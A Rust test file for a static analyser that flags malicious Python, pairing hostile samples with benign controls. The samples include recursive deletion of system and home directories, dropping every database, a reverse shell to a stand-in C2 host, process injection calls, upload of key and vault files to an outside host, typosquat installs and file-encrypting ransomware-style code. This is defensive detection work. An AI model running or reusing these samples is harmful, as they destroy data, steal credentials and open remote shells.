//! Behaviour tests for the twenty-second session (what the twentieth
//! batch's held-out misses showed, written as behaviours and spelled unlike
//! them: trees kept as class attributes and dataclass defaults, paths
//! mapped through path constructors, SQL run through database clients,
//! names kept as reversed lists, Windows injection calls fetched through a
//! helper, key and vault files picked on a walk of the home directory,
//! packages swapped for look-alikes), each with a control, and two
//! look-alikes the engine flagged (a read-only Docker API client, a log
//! shipper's bookmark under /var/log). Every malicious case is misjudged
//! by the analyser at aa991bf; every control passes there.

use super::behaviour19_tests::{caught, spared};
use super::behaviour_tests::{rules, run};
use super::Verdict;

// Trees kept on classes (MB907)

/// A class attribute read through an annotated parameter.
#[test]
fn class_attribute_tree_deleted_through_an_annotated_parameter() {
    let src = r#"import shutil
class Settings:
    targets = ("/var/lib/docker", "/etc")
    verbose = False
def purge(cfg: Settings):
    for t in cfg.targets:
        shutil.rmtree(t, ignore_errors=True)
purge(Settings())
"#;
    caught(src, "MB907", Verdict::Blocked);
    spared(
        &src.replace(r#"("/var/lib/docker", "/etc")"#, r#"("build", "dist")"#),
        "MB907",
    );
}

/// A dataclass field's factory, the instance made in the caller and handed
/// over by name.
#[test]
fn dataclass_factory_tree_deleted_through_a_callers_instance() {
    let src = r#"import os, shutil
from dataclasses import dataclass, field
@dataclass
class Job:
    name: str = "reset"
    roots: list = field(default_factory=lambda: ["/boot", "/usr/lib"])
def execute(job):
    for r in job.roots:
        if os.path.isdir(r):
            shutil.rmtree(r)
def main():
    job = Job(name="nightly")
    execute(job)
main()
"#;
    caught(src, "MB907", Verdict::Blocked);
    spared(
        &src.replace(
            r#"["/boot", "/usr/lib"]"#,
            r#"["./.pytest_cache", "./htmlcov"]"#,
        ),
        "MB907",
    );
}

/// `map(os.path.expanduser, ...)` as the loop's iterable.
#[test]
fn home_tree_deleted_through_a_mapped_path_constructor() {
    let src = r#"import os, shutil
for d in map(os.path.expanduser, ["~/.ssh", "~"]):
    shutil.rmtree(d, ignore_errors=True)
"#;
    caught(src, "MB907", Verdict::Blocked);
    spared(
        &src.replace(r#"["~/.ssh", "~"]"#, r#"["./build", "./dist"]"#),
        "MB907",
    );
}

// SQL run through a database client (MB945)

/// Every database a catalogue query lists, dropped through `psql -c`.
#[test]
fn every_database_dropped_through_the_psql_client() {
    let src = r#"import subprocess
BASE = ["psql", "-qtA", "-h", "db.internal", "-c"]
def sql(q):
    return subprocess.check_output(BASE + [q], text=True)
for name in sql("SELECT datname FROM pg_database").split():
    sql(f"DROP DATABASE {name}")
"#;
    caught(src, "MB945", Verdict::Blocked);
    spared(&src.replace("DROP DATABASE", "VACUUM ANALYZE"), "MB945");
}

// Names kept as reversed lists (MB913)

/// `getattr(os, "".join(reversed([...])))` of a command the network sent.
#[test]
fn shell_function_named_by_a_reversed_list_runs_network_data() {
    let src = r#"import os, socket
s = socket.create_connection(("c2.example.net", 4444))
run = getattr(os, "".join(reversed(["m", "e", "t", "s", "y", "s"])))
while True:
    run(s.recv(1024).decode())
"#;
    caught(src, "MB913", Verdict::Blocked);
    spared(
        &src.replace(
            r#"["m", "e", "t", "s", "y", "s"]"#,
            r#"["h", "t", "a", "p"]"#,
        )
        .replace("run(s.recv(1024).decode())", "print(s.recv(1024))"),
        "MB913",
    );
}

// Windows injection calls (MB929)

/// The API fetched by a helper that looks its name up in a table by the
/// call's argument.
#[test]
fn remote_write_fetched_through_a_table_helper() {
    let src = r#"import ctypes
NAMES = {"w": "Write" + "Process" + "Memory", "t": "GetTick" + "Count"}
def api(n):
    return getattr(ctypes.windll.kernel32, NAMES[n])
def push(h, addr, buf):
    api("w")(h, addr, buf, len(buf), None)
push(1, 2, b"FAKE")
"#;
    caught(src, "MB929", Verdict::Blocked);
    spared(
        &src.replace(
            r#"api("w")(h, addr, buf, len(buf), None)"#,
            r#"print(api("t")())"#,
        ),
        "MB929",
    );
}

/// An APC queued through a handle kept on `self`, which does not resolve.
#[test]
fn apc_queued_through_a_handle_on_self() {
    let src = r#"import ctypes
class Loader:
    def __init__(self):
        self.k32 = ctypes.WinDLL("kernel32")
    def run(self, thread, fn):
        self.k32.QueueUserAPC(fn, thread, 0)
Loader().run(1, 2)
"#;
    caught(src, "MB929", Verdict::Blocked);
    spared(
        &src.replace("QueueUserAPC(fn, thread, 0)", "GetCurrentProcessId()"),
        "MB929",
    );
}

// Key and vault files picked on a walk of the home directory (MB916)

#[test]
fn vault_and_key_files_from_home_uploaded() {
    let src = r#"import requests
from pathlib import Path
KEEP = {".kdbx", ".ppk", ".ovpn"}
for p in Path.home().rglob("*"):
    if p.suffix in KEEP and p.is_file():
        requests.post("https://backup.example.net/put", files={"f": p.read_bytes()})
"#;
    caught(src, "MB916", Verdict::Blocked);
    // Certificates picked, and only counted: an expiry scanner.
    let control = src
        .replace(r#"{".kdbx", ".ppk", ".ovpn"}"#, r#"{".pem", ".crt"}"#)
        .replace(
            r#"files={"f": p.read_bytes()}"#,
            r#"json={"n": p.stat().st_size}"#,
        );
    spared(&control, "MB916");
}

// Packages swapped for look-alikes (MB932)

#[test]
fn popular_packages_mapped_to_lookalikes_and_installed() {
    let src = r#"import subprocess, sys
FASTER = {"numpy": "numpyy", "pandas": "pandsa", "tqdm": "tqmd"}
for want in sys.argv[1:]:
    pkg = FASTER.get(want, want)
    subprocess.run([sys.executable, "-m", "pip", "install", pkg])
"#;
    caught(src, "MB932", Verdict::Blocked);
    // Import names mapped to distribution names, attrs to its import name.
    let control = src.replace(
        r#"{"numpy": "numpyy", "pandas": "pandsa", "tqdm": "tqmd"}"#,
        r#"{"yaml": "pyyaml", "PIL": "pillow", "attrs": "attr", "sklearn": "scikit-learn"}"#,
    );
    spared(&control, "MB932");
}

// Look-alikes the engine flagged

/// A Docker API client that only asks with GET is MB232 (MEDIUM); the same
/// client creating a container is MB423.
#[test]
fn docker_socket_read_only_is_noted_not_flagged() {
    let src = r#"import http.client, json, socket
class Conn(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect("/run/docker.sock")
c = Conn("localhost")
c.request("GET", "/containers/json?all=1")
print(json.loads(c.getresponse().read()))
"#;
    let a = run(src);
    assert!(rules(&a).contains(&"MB232"), "{:?}", a.findings);
    spared(src, "MB423");
    let writes = src.replace(
        r#"c.request("GET", "/containers/json?all=1")"#,
        r#"c.request("POST", "/containers/create", body="{}")"#,
    );
    caught(&writes, "MB423", Verdict::High);
}

/// A log shipper's bookmark written under /var/log erases no trace; the log
/// itself truncated does.
#[test]
fn log_readers_bookmark_is_not_a_trace() {
    let src = r#"import json
from pathlib import Path
OFFSETS = Path("/var/log/collector/.positions.yaml")
OFFSETS.write_text(json.dumps({"/var/log/syslog": 1024}))
"#;
    spared(src, "MB923");
    caught(
        &src.replace(".positions.yaml", "collector.log"),
        "MB923",
        Verdict::Blocked,
    );
}

// Ciphers made by a factory (MB917)

/// The scrambling function an own factory returns (an inner `def`), called
/// on each walked file.
#[test]
fn files_scrambled_by_a_factory_made_function() {
    let src = r#"import os
from pathlib import Path
def make(key):
    def scramble(buf):
        return bytes(b ^ key[i % len(key)] for i, b in enumerate(buf))
    return scramble
enc = make(os.urandom(16))
for p in (Path.home() / "Documents").rglob("*.docx"):
    p.with_suffix(".docx.enc").write_bytes(enc(p.read_bytes()))
    p.unlink()
"#;
    caught(src, "MB917", Verdict::Blocked);
    let copy = src.replace(
        "bytes(b ^ key[i % len(key)] for i, b in enumerate(buf))",
        "bytes(buf)",
    );
    spared(&copy, "MB917");
}
